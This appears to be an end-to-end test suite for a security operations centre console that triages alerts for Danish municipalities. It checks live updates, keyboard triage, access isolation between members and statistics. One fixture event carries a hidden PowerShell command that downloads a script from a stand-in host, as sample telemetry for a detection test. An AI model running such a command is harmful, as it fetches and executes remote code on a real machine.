import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Queue } from 'bullmq';
import type { Browser, Page } from 'playwright-core';
import { detectionContributionId, detectionFingerprint, type Detection, type SocEvent } from '@soc/contracts';
import { createRedis, type Redis } from '@soc/redis';
import { EventRepository, IndexNames } from '@soc/storage';
import { bulkLoad } from '../../libs/storage/src/testing/bulk-load';
import { daysFrom, memberDayEvents, membersFileOfRanges } from '../../libs/statistics/src/testing/generated-attempts';
import { launchChromium } from './support/browser';
import { clientToken, screenshotIfAsked, seriousAxeViolations, signInToConsole, socIssuer, consoleEnv } from './support/console-browser';
import { E2eDeployment } from './support/deployment';
import { AppProcess, freePort, waitFor } from './support/stack';

type Level = Detection['rule']['level'];

/**
 * KL's figures: 12 municipalities report each of 8 days 40 to 33 days ago (cells are published
 * only once final, 31 days after: docs/STATISTICS.md), ordinary attempts
 * (0–11 a day) and one member-day in eight above the threshold (201–204), straight into the events
 * indices (the statistics read them there; docs/STATISTICS.md).
 */
function publishedAttemptEvents(): Array<Record<string, unknown>> {
  const first = new Date(Date.now() - 40 * 86_400_000).toISOString().slice(0, 10);
  return daysFrom(first, 8).flatMap((day, d) =>
    Array.from({ length: 12 }, (_, m) => memberDayEvents(m, day, (m * 5 + d * 3) % 8 === 0 ? 201 + (m % 4) : (m * 7 + d * 5) % 12).events).flat(),
  );
}

/** A Sigma rule's detection (author and references, as a Sigma rule file gives them) for one member and attacker. */
function detection(member: string, attacker: string, level: Level, title: string): Detection {
  const now = new Date().toISOString();
  const ruleId = `console-${title.toLowerCase().replace(/\W+/g, '-')}`;
  return {
    fingerprint: detectionFingerprint(ruleId, member, attacker, now),
    kind: 'rule',
    rule: { id: ruleId, title, level, tags: ['attack.t1110'], author: 'Kommunernes SOC', references: ['https://attack.mitre.org/techniques/T1110/'] },
    organization: { id: member },
    group_key: attacker,
    window_start: now,
    first_seen: now,
    last_seen: now,
    event_count: 1,
    event_ids: [`e-${member}-${attacker}`],
    observables: [{ field: 'source.ip', value: attacker }],
    detected_at: now,
  };
}

describe('console: the alert queue, live updates, keyboard triage, detail and KL statistics in Chromium', () => {
  let deployment: E2eDeployment;
  let alerting: AppProcess;
  let consoleApp: AppProcess;
  let browser: Browser;
  let detections: Queue;
  let queueRedis: Redis;
  let analystToken: string;

  /** alerting's own answer for an alert, read with an analyst's service token: what the page did, checked where it is stored. */
  const alertFromApi = async (id: string): Promise<any> => {
    const response = await fetch(`${alerting.url}/alerts/${encodeURIComponent(id)}`, { headers: { authorization: `Bearer ${analystToken}` } });
    return response.json();
  };
  const auditFromApi = async (id: string): Promise<any[]> => {
    const response = await fetch(`${alerting.url}/alerts/${encodeURIComponent(id)}/audit`, { headers: { authorization: `Bearer ${analystToken}` } });
    return ((await response.json()) as { entries: any[] }).entries;
  };

  /** Sends detections through the real detections queue and waits until alerting has made each an alert; their ids by title. */
  async function raise(...list: Detection[]): Promise<Record<string, string>> {
    for (const d of list) await detections.add('detection', d, { jobId: detectionContributionId(d) });
    const ids: Record<string, string> = {};
    await waitFor(
      async () => {
        const response = await fetch(`${alerting.url}/alerts?size=500`, { headers: { authorization: `Bearer ${analystToken}` } });
        const { alerts } = (await response.json()) as { alerts?: Array<{ id: string; rule: { title: string } }> };
        for (const alert of alerts ?? []) ids[alert.rule.title] = alert.id;
        return list.every((d) => ids[d.rule.title] !== undefined);
      },
      60_000,
      () => alerting.log,
    );
    return ids;
  }

  const rowsOf = (page: Page) =>
    page
      .locator('#alert-rows tr')
      .evaluateAll((trs: any[]) => trs.map((tr) => ({ id: tr.dataset.alertId, member: tr.dataset.member, status: tr.dataset.status })));

  const expectNoSeriousAxeViolations = async (page: Page) => expect(await seriousAxeViolations(page)).toEqual([]);

  // Each municipality's own network range, so the statistics can tell attempts from outside.
  const membersDir = mkdtempSync(join(tmpdir(), 'e2e-console-members-'));

  beforeAll(async () => {
    writeFileSync(join(membersDir, 'members.json'), JSON.stringify(membersFileOfRanges()));
    deployment = await E2eDeployment.create({
      rules: {},
      env: { OIDC_ISSUER: socIssuer, OIDC_AUDIENCE: 'soc-api', CONSOLE_PORT: String(await freePort()), MEMBERS_FILE: join(membersDir, 'members.json') },
    });
    const env = deployment.env;
    alerting = new AppProcess('alerting', env).start();
    consoleApp = new AppProcess(
      'console',
      consoleEnv(env, {
        CONSOLE_ALERTING_URL: alerting.url,
      }),
    ).start();
    [browser] = await Promise.all([launchChromium(), alerting.waitReady(), consoleApp.waitReady()]);
    queueRedis = createRedis(env.REDIS_URL, 'worker', 'e2e-console-queue-detections');
    detections = new Queue(env.DETECTIONS_QUEUE, { connection: queueRedis });
    analystToken = await clientToken('soc-automation-analyst', 'soc-automation-analyst-dev-secret');
    // alerting is ready, so its events index template is in place for the generated events.
    const names = new IndexNames(env.INDEX_PREFIX);
    await bulkLoad(deployment.es, publishedAttemptEvents(), (event) => names.eventsIndexFor(String(event['@timestamp'])));
    await deployment.es.indices.refresh({ index: `${env.INDEX_PREFIX}-events-*` });
    await raise(
      detection('0751', '198.51.100.10', 'high', 'SSH brute force'),
      detection('0461', '198.51.100.11', 'critical', 'Ransomware note written'),
      detection('0751', '198.51.100.12', 'medium', 'Password spraying'),
    );
  });

  afterAll(async () => {
    await browser?.close();
    await detections?.obliterate({ force: true });
    await detections?.close();
    queueRedis?.disconnect();
    await deployment?.close([consoleApp, alerting].filter(Boolean));
    rmSync(membersDir, { recursive: true, force: true });
  });

  it("shows an analyst every member's open alerts, critical first, in Danish, with no serious accessibility violation", async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await expect(page.locator('#who').textContent()).resolves.toBe('Anna Andersen · SOC-analytiker');
    await page.waitForSelector('#alert-rows tr');
    const rows = await rowsOf(page);
    expect(rows.map((r) => r.member).sort()).toEqual(['0461', '0751', '0751']);
    expect(rows[0]!.member).toBe('0461');
    await expect(page.locator('h2#queue-title').textContent()).resolves.toBe('Alarmkø');
    await expect(page.locator('html').getAttribute('lang')).resolves.toBe('da');
    await expectNoSeriousAxeViolations(page);
    await screenshotIfAsked(page, 'analyst-queue');
    await context.close();
  });

  it('adds a new alert to the open queue without a reload, from the live stream', async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector('#alert-rows tr');
    // Open means the stream has taken its baseline: every alert raised from now on is sent.
    await page.waitForSelector('#live-status[data-live="on"]');
    await page.evaluate(() => ((globalThis as any).stillTheSamePage = true));
    const before = (await rowsOf(page)).length;
    const { 'Kerberoasting attempt': id } = await raise(detection('0461', '198.51.100.20', 'high', 'Kerberoasting attempt'));
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`, { timeout: 60_000 });
    expect((await rowsOf(page)).length).toBe(before + 1);
    expect(await page.evaluate(() => (globalThis as any).stillTheSamePage)).toBe(true);
    await expect(page.locator('#triage-status').textContent()).resolves.toBe('Ny alarm: Kerberoasting attempt (0461)');
    await context.close();
  });

  it('takes a live alert through triage from the keyboard: it appears, j/k, c, a, a comment on its detail, x with a reason; the API and the audit trail hold each step', async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector('#alert-rows tr');
    await page.waitForSelector('#live-status[data-live="on"]');
    const { 'Lateral movement over SMB': id } = await raise(detection('0751', '198.51.100.30', 'low', 'Lateral movement over SMB'));
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`, { timeout: 60_000 });
    // The lowest severity sorts last: move down to it with j, one key per row.
    const ids = (await rowsOf(page)).map((r) => r.id);
    await page.focus('#alert-row-0');
    for (let i = 0; i < ids.indexOf(id); i++) await page.keyboard.press('j');
    await page.keyboard.press('k');
    await page.keyboard.press('j');
    await expect(page.locator('#alert-rows tr[aria-current="true"]').getAttribute('data-alert-id')).resolves.toBe(id);

    await page.keyboard.press('c');
    await waitFor(async () => (await alertFromApi(id)).status === 'acknowledged', 30_000);
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"][data-status="acknowledged"]`);

    await page.keyboard.press('a');
    await waitFor(async () => (await alertFromApi(id)).assignee === 'Anna Andersen', 30_000);

    await page.keyboard.press('Enter');
    await page.waitForSelector('#alert-detail #detail-rule');
    await page.fill('#comment-text', 'Kommunen bekræfter: deres egen scanner');
    await page.click('#comment-post');
    await page.waitForSelector('#detail-comments li');
    await page.click('#alert-detail a[href="#/queue"]');
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`);
    await page.focus(`#alert-rows tr[data-alert-id="${id}"]`);

    await page.keyboard.press('x');
    await page.waitForSelector('#close-dialog[open]');
    await page.click('#close-confirm');
    await expect(page.locator('#close-dialog [role="alert"]').textContent()).resolves.toBe('Skriv en begrundelse.');
    await page.selectOption('#close-status', 'false_positive');
    await page.fill('#close-reason', 'Sårbarhedsscanning fra kommunens egen leverandør');
    await page.click('#close-confirm');
    await waitFor(async () => (await alertFromApi(id)).status === 'false_positive', 30_000);
    // Closed alerts leave the open queue.
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`, { state: 'detached' });
    // The audit index makes an entry searchable within about a second.
    let audit: any[] = [];
    await waitFor(async () => (audit = await auditFromApi(id)).length === 5, 30_000);
    expect(audit.map((e) => e.action)).toEqual(['created', 'status_changed', 'assigned', 'commented', 'status_changed']);
    expect(audit.at(-1)).toMatchObject({
      after: { status: 'false_positive' },
      reason: 'Sårbarhedsscanning fra kommunens egen leverandør',
      actor: expect.objectContaining({ name: 'Anna Andersen', role: 'soc_analyst' }),
    });
    // The detail's audit trail shows the same steps.
    await page.goto(`${consoleApp.url}/#/alerts/${id}`);
    await page.waitForSelector('#detail-audit tbody tr:nth-child(5)');
    const shown = await page.locator('#detail-audit tbody tr').evaluateAll((trs: any[]) => trs.map((tr) => tr.dataset.action));
    expect(shown).toEqual(['created', 'status_changed', 'assigned', 'commented', 'status_changed']);
    await expect(page.locator('#detail-status').textContent()).resolves.toBe('Falsk positiv');
    await context.close();
  });

  it('acknowledges selected alerts in bulk and shows a result per alert, a refusal included', async () => {
    const ids = await raise(detection('0751', '198.51.100.40', 'medium', 'Bulk one'), detection('0461', '198.51.100.41', 'medium', 'Bulk two'));
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${ids['Bulk two']}"]`);
    // One of the two is acknowledged already: acknowledging it again is refused, and said so for that alert alone.
    await fetch(`${alerting.url}/alerts/${ids['Bulk two']}/status`, {
      method: 'POST',
      headers: { authorization: `Bearer ${analystToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ status: 'acknowledged' }),
    });
    for (const title of ['Bulk one', 'Bulk two']) await page.check(`#alert-rows tr[data-alert-id="${ids[title]}"] input[type="checkbox"]`);
    await page.click('#bulk-acknowledge');
    await page.waitForSelector('#bulk-results li');
    const results = await page
      .locator('#bulk-results li')
      .evaluateAll((lis: any[]) => lis.map((li) => ({ id: li.dataset.alertId, ok: li.dataset.ok, text: li.textContent })));
    expect(results).toEqual([
      { id: ids['Bulk one'], ok: 'true', text: `${ids['Bulk one']}: kvitteret` },
      { id: ids['Bulk two'], ok: 'false', text: expect.stringContaining('cannot move an alert from acknowledged to acknowledged') },
    ]);
    expect((await alertFromApi(ids['Bulk one']!)).status).toBe('acknowledged');
    await context.close();
  });

  it('switches to English, keeps the choice across a reload, and back to Danish', async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector('#alert-rows tr');
    await page.selectOption('#language', 'en');
    await expect(page.locator('h2#queue-title').textContent()).resolves.toBe('Alert queue');
    await expect(page.locator('#who').textContent()).resolves.toBe('Anna Andersen · SOC analyst');
    await page.reload();
    await page.waitForSelector('#alert-rows tr');
    await expect(page.locator('h2#queue-title').textContent()).resolves.toBe('Alert queue');
    await expect(page.locator('html').getAttribute('lang')).resolves.toBe('en');
    await expect(page.locator('#logout').textContent()).resolves.toBe('Sign out');
    await page.selectOption('#language', 'da');
    await expect(page.locator('h2#queue-title').textContent()).resolves.toBe('Alarmkø');
    await context.close();
  });

  it('saves the filters as a named view in the browser and applies it again after a reload', async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector('#alert-rows tr');
    await page.selectOption('#filter-severity', 'critical');
    await page.click('#filter-apply');
    await waitFor(async () => (await page.locator('#alert-rows tr').count()) === 1, 30_000);
    await page.fill('#view-name', 'Kritiske');
    await page.click('#view-save');
    await page.reload();
    await page.waitForSelector('#alert-rows tr');
    expect((await rowsOf(page)).length).toBeGreaterThan(1);
    await page.click('#saved-views button:text-is("Kritiske")');
    await waitFor(async () => (await page.locator('#alert-rows tr').count()) === 1, 30_000);
    await expect(page.locator('#filter-severity').inputValue()).resolves.toBe('critical');
    await expectNoSeriousAxeViolations(page);
    await context.close();
  });

  it("opens an alert's detail from the queue with Enter: the Sigma rule's author and references, a comment, the audit trail", async () => {
    // The event behind the detection (its event_ids), where the indexer would have put it.
    const behind = {
      '@timestamp': new Date().toISOString(),
      event: { id: 'e-0751-198.51.100.50', kind: 'event', action: 'powershell-download', outcome: 'success' },
      organization: { id: '0751' },
      host: { name: 'ws-aarhus-17' },
      source: { ip: '198.51.100.50' },
      message: 'powershell.exe -nop -w hidden -c iwr http://198.51.100.50/a.ps1',
    } as unknown as SocEvent;
    await new EventRepository(deployment.es, new IndexNames(deployment.env.INDEX_PREFIX)).bulkIndex([behind]);
    await deployment.es.indices.refresh({ index: `${deployment.env.INDEX_PREFIX}-events-*` });
    const { 'Suspicious PowerShell download': id } = await raise(detection('0751', '198.51.100.50', 'critical', 'Suspicious PowerShell download'));
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'anna.analyst');
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${id}"]`);
    await page.focus(`#alert-rows tr[data-alert-id="${id}"]`);
    await page.keyboard.press('Enter');
    await page.waitForSelector('#alert-detail #detail-rule');
    expect(new URL(page.url()).hash).toBe(`#/alerts/${id}`);
    await expect(page.locator('#rule-author').textContent()).resolves.toBe('Kommunernes SOC');
    await expect(page.locator('#rule-references a').getAttribute('href')).resolves.toBe('https://attack.mitre.org/techniques/T1110/');
    const timeline = await page.locator('#detail-events tbody tr').evaluateAll((trs: any[]) => trs.map((tr) => [tr.dataset.eventId, tr.textContent]));
    expect(timeline).toEqual([['e-0751-198.51.100.50', expect.stringContaining('powershell-download · success198.51.100.50ws-aarhus-17powershell.exe')]]);
    await page.fill('#comment-text', 'Ringet til kommunens IT-vagt');
    await page.click('#comment-post');
    await page.waitForSelector('#detail-comments li');
    await expect(page.locator('#detail-comments li').textContent()).resolves.toContain('Anna Andersen');
    expect((await alertFromApi(id)).comments).toEqual([expect.objectContaining({ text: 'Ringet til kommunens IT-vagt', by_name: 'Anna Andersen' })]);
    await page.waitForSelector('#detail-audit tr[data-action="created"]');
    await expectNoSeriousAxeViolations(page);
    await screenshotIfAsked(page, 'alert-detail');
    await context.close();
  });

  it('lets a SOC administrator create an exception from an alert on its detail page', async () => {
    const { 'Scanner noise': id } = await raise(detection('0751', '198.51.100.70', 'low', 'Scanner noise'));
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'sofie.admin');
    await page.goto(`${consoleApp.url}/#/alerts/${id}`);
    await page.waitForSelector('#exception-form');
    await page.fill('#exception-reason', 'Kommunens egen sårbarhedsscanner');
    await page.click('#exception-create');
    await page.waitForSelector('#exception-outcome');
    const outcome = (await page.locator('#exception-outcome').textContent())!;
    expect(outcome).toMatch(/^Undtagelse \S+ er oprettet$/);
    const response = await fetch(`${alerting.url}/exceptions`, { headers: { authorization: `Bearer ${analystToken}` } });
    const { exceptions } = (await response.json()) as { exceptions: any[] };
    expect(exceptions.find((e) => e.source_alert_id === id)).toMatchObject({
      id: outcome.split(' ')[1],
      rule_id: 'console-scanner-noise',
      scope: { kind: 'member', member_id: '0751' },
      reason: 'Kommunens egen sårbarhedsscanner',
      conditions: [expect.objectContaining({ field: 'source.ip', op: 'equals' })],
    });
    await expectNoSeriousAxeViolations(page);
    await context.close();
  });

  it("shows a member only its own alerts, live too, and another member's alert by URL only as not found", async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'mads.aarhus');
    await expect(page.locator('#who').textContent()).resolves.toBe('Mads Madsen · Kommune (0751)');
    await page.waitForSelector('#alert-rows tr');
    await page.waitForSelector('#live-status[data-live="on"]');
    expect(new Set((await rowsOf(page)).map((r) => r.member))).toEqual(new Set(['0751']));
    expect(await page.locator('#filter-member').count()).toBe(0);
    const ids = await raise(detection('0461', '198.51.100.60', 'critical', 'Odense only'), detection('0751', '198.51.100.61', 'low', 'Aarhus only'));
    await page.waitForSelector(`#alert-rows tr[data-alert-id="${ids['Aarhus only']}"]`, { timeout: 60_000 });
    // Both were raised together: the stream that brought Aarhus's would have brought Odense's with it.
    expect(new Set((await rowsOf(page)).map((r) => r.member))).toEqual(new Set(['0751']));
    await expectNoSeriousAxeViolations(page);

    // A campaign over Aarhus, Odense and another member: Aarhus is told how many others, never who.
    await raise({
      ...detection('shared-soc', '198.51.100.61', 'high', 'Campaign across members'),
      kind: 'campaign',
      campaign: { members: ['0751', '0461', '0101'] },
    });
    await waitFor(
      async () => (await alertFromApi(ids['Aarhus only']!)).campaign?.id !== undefined,
      30_000,
      () => alerting.log,
    );
    await page.goto(`${consoleApp.url}/#/alerts/${ids['Aarhus only']}`);
    await page.waitForSelector('#detail-campaign');
    await expect(page.locator('#detail-campaign').textContent()).resolves.toBe('2 andre kommuner er berørt');
    const shown = await page.locator('main').textContent();
    expect(shown).not.toMatch(/0461|0101|shared-soc/);
    await screenshotIfAsked(page, 'member-alert-detail');

    await page.goto(`${consoleApp.url}/#/alerts/${ids['Odense only']}`);
    await page.waitForSelector('#detail-error');
    await expect(page.locator('#detail-error').textContent()).resolves.toBe(`Fejl: no alert ${ids['Odense only']}`);
    await context.close();
  });

  it("streams a member only its own alerts from alerting's /live/alerts, resumes after Last-Event-ID, and refuses KL", async () => {
    const memberToken = await clientToken('soc-automation-0751', 'soc-automation-0751-dev-secret');
    const open = async (token: string, lastEventId?: string) =>
      fetch(`${alerting.url}/live/alerts`, {
        headers: { authorization: `Bearer ${token}`, accept: 'text/event-stream', ...(lastEventId ? { 'last-event-id': lastEventId } : {}) },
      });
    /** Reads the stream's `alert` events until `until` holds for one of them (or the wait runs out). */
    const readUntil = async (response: Response, until: (alert: any) => boolean): Promise<any[]> => {
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      const seen: any[] = [];
      let text = '';
      const deadline = Date.now() + 60_000;
      while (Date.now() < deadline && !seen.some(until)) {
        const { value, done } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
        const blocks = text.split('\n\n');
        text = blocks.pop()!;
        for (const block of blocks) {
          const data = block.split('\n').find((line) => line.startsWith('data: '));
          if (block.includes('event: alert') && data) seen.push(JSON.parse(data.slice('data: '.length)));
        }
      }
      await reader.cancel();
      return seen;
    };

    const stream = await open(memberToken);
    expect(stream.status).toBe(200);
    expect(stream.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
    const ids = await raise(detection('0461', '198.51.100.80', 'high', 'Stream Odense'), detection('0751', '198.51.100.81', 'medium', 'Stream Aarhus'));
    const sent = await readUntil(stream, (a) => a.id === ids['Stream Aarhus']);
    expect(sent.map((a) => a.id)).toContain(ids['Stream Aarhus']);
    expect(new Set(sent.map((a) => a.organization.id))).toEqual(new Set(['0751']));

    // A reconnect says what it saw last: what changed after it comes at once.
    const before = new Date(Date.parse((await alertFromApi(ids['Stream Aarhus']!)).updated_at) - 1_000).toISOString();
    const resumed = await readUntil(await open(memberToken, before), (a) => a.id === ids['Stream Aarhus']);
    expect(resumed.map((a) => a.id)).toContain(ids['Stream Aarhus']);
    expect(resumed.every((a) => a.organization.id === '0751')).toBe(true);

    const kl = await open(await clientToken('soc-automation-kl', 'soc-automation-kl-dev-secret'));
    expect(kl.status).toBe(403);
    expect(await kl.json()).toMatchObject({ message: 'role kl_reporter may not use this endpoint' });
  });

  it('shows KL the statistics charts and their table with a CSV export, no alert queue, with no serious accessibility violation', async () => {
    const { context, page } = await signInToConsole(browser, consoleApp.url, 'karen.kl');
    await page.waitForSelector('#statistics-rows tr');
    // The generated days are published (12 municipalities), the days without data withheld.
    expect(await page.locator('#statistics-rows tr:not([data-suppressed])').count()).toBeGreaterThanOrEqual(7);
    expect(await page.locator('#statistics-rows tr[data-suppressed]').count()).toBeGreaterThan(0);
    expect(await page.locator('#chart-median circle.median').count()).toBeGreaterThanOrEqual(7);
    expect(await page.locator('#chart-median svg').count()).toBe(1);
    // Each attempt counts in one category: the categories add up to the published cells' attempts.
    const numbers = (selector: string) => page.locator(selector).evaluateAll((tds: any[]) => tds.map((td) => Number(td.textContent)));
    const perDay = await numbers('#statistics-rows tr:not([data-suppressed]) td:nth-of-type(2)');
    const perCategory = await numbers('#statistics-categories tbody td');
    expect(perCategory.reduce((a, b) => a + b, 0)).toBe(perDay.reduce((a, b) => a + b, 0));
    expect(Number(await page.locator('#statistics-categories tr[data-category="failed_authentication"] td').textContent())).toBeGreaterThan(0);
    expect(await page.locator('#chart-share svg').count()).toBe(1);
    expect(await page.locator('#alerts').count()).toBe(0);
    const csvHref = await page.locator('#statistics-csv').getAttribute('href');
    const csv = await page.evaluate(async (href) => {
      const response = await fetch(href!);
      return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
    }, csvHref);
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    expect(csv.text.split('\n')[0]).toContain('bucket');
    await expectNoSeriousAxeViolations(page);
    await screenshotIfAsked(page, 'kl-statistics');
    await page.goto(`${consoleApp.url}/#/queue`);
    await expect(page.locator('main [role="status"]').textContent()).resolves.toBe('Siden findes ikke.');
    await context.close();
  });
});
